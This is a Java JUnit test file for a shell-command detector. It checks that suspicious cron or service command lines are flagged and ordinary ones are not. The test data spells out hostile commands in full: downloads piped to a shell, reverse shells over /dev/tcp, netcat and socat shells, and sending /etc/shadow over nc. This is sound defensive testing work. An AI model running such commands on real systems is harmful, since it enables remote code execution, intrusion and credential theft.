package dev.ward.detect.builtin;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.util.List;
import java.util.Optional;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class IndicatorsTest {
    static Stream<Arguments> downloads() {
        return Stream.of(
                Arguments.of("(curl -fsSL http://198.51.100.7/k.sh || wget -q -O- http://198.51.100.7/k.sh) | sh >/dev/null 2>&1",
                        "download piped to a shell"),
                Arguments.of("wget -qO- http://x/y |/bin/bash -s", "download piped to a shell"),
                Arguments.of("sh -c \"$(curl -fsSL http://x/i)\"", "shell runs a download"),
                Arguments.of("bash <(wget -O- http://x)", "shell runs a download"),
                Arguments.of("echo Y3VybA== | base64 -d | bash", "decoded text piped to a shell"),
                Arguments.of("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "shell over /dev/tcp"),
                Arguments.of("nc -e /bin/sh 10.0.0.1 443", "netcat with -e/-c"),
                Arguments.of("ncat 10.0.0.1 443 -e /bin/bash", "netcat with -e/-c"),
                Arguments.of("socat TCP:10.0.0.1:443 EXEC:/bin/sh", "socat exec"),
                Arguments.of("python3 -c 'import socket,os;s=socket.socket()'", "scripted socket"));
    }

    @ParameterizedTest
    @MethodSource("downloads")
    void downloadAndRun(String command, String name) {
        assertEquals(Optional.of(name), Indicators.downloadAndRun(command));
    }

    @ParameterizedTest
    @ValueSource(strings = {"curl -fsS https://example.org/health > /dev/null", "wget -q -O /tmp/x http://a",
        "run-parts --report /etc/cron.daily", "test -x /usr/sbin/anacron || ( cd / && run-parts /etc/cron.daily )",
        "find /tmp -type f -mtime +7 -delete", "base64 -d < in > out", "sync; fnc=1"})
    void ordinaryCommandsAreNotIndicators(String command) {
        assertEquals(Optional.empty(), Indicators.network(command));
        assertEquals(Optional.empty(), Indicators.runsFromTemp(command));
    }

    static Stream<Arguments> tempOrHidden() {
        return Stream.of(Arguments.of("/tmp/x", "/tmp/x"), Arguments.of("cd /tmp && ./x; /var/tmp/y -d", "/var/tmp/y"),
                Arguments.of("sudo -u bob nohup /dev/shm/z &", "/dev/shm/z"),
                Arguments.of("FOO=1 /usr/lib/.cache/agent", "/usr/lib/.cache/agent"),
                Arguments.of("sh -c '/opt/.h/run'", "/opt/.h/run"), Arguments.of("%h/.local/.sync", "%h/.local/.sync"),
                Arguments.of("~/.x/y --flag", "~/.x/y"));
    }

    @ParameterizedTest
    @MethodSource("tempOrHidden")
    void programsFromTempOrHiddenPaths(String command, String program) {
        assertEquals(Optional.of(program), Indicators.runsFromTempOrHidden(command));
    }

    @ParameterizedTest
    @ValueSource(strings = {"/usr/sbin/cron -f", "/bin/sh -c 'echo $devpath > /tmp/log'", "cat /tmp/x", "./.x"})
    void notRunFromTempOrHidden(String command) {
        assertEquals(Optional.empty(), Indicators.runsFromTempOrHidden(command));
    }

    @ParameterizedTest
    @ValueSource(strings = {"nc 10.0.0.1 4444 < /etc/shadow", "x=1; socat - TCP:1.2.3.4:80", "$(telnet host 23)"})
    void networkClients(String command) {
        assertEquals(Optional.of("network client"), Indicators.network(command));
    }

    static Stream<Arguments> programLists() {
        return Stream.of(Arguments.of("a; b && c | d", List.of("a", "b", "c", "d")),
                Arguments.of("env X=1 nice -n 5 /bin/x", List.of("/bin/x")),
                Arguments.of("timeout 10 foo", List.of("foo")));
    }

    @ParameterizedTest
    @MethodSource("programLists")
    void programsOfACommandLine(String command, List<String> programs) {
        assertEquals(programs, Indicators.programs(command));
    }

    @org.junit.jupiter.api.Test
    @org.junit.jupiter.api.Timeout(10)
    void aLineOfMegabytesIsJudgedInLinearTime() {
        String hostile = "curl base64 -d socat nc || $(|".repeat(100_000);
        assertEquals(java.util.Optional.empty(), Indicators.downloadAndRun(hostile));
        assertEquals(java.util.Optional.of("download piped to a shell"),
                Indicators.downloadAndRun(hostile + " curl http://x/y | sh"));
    }
}
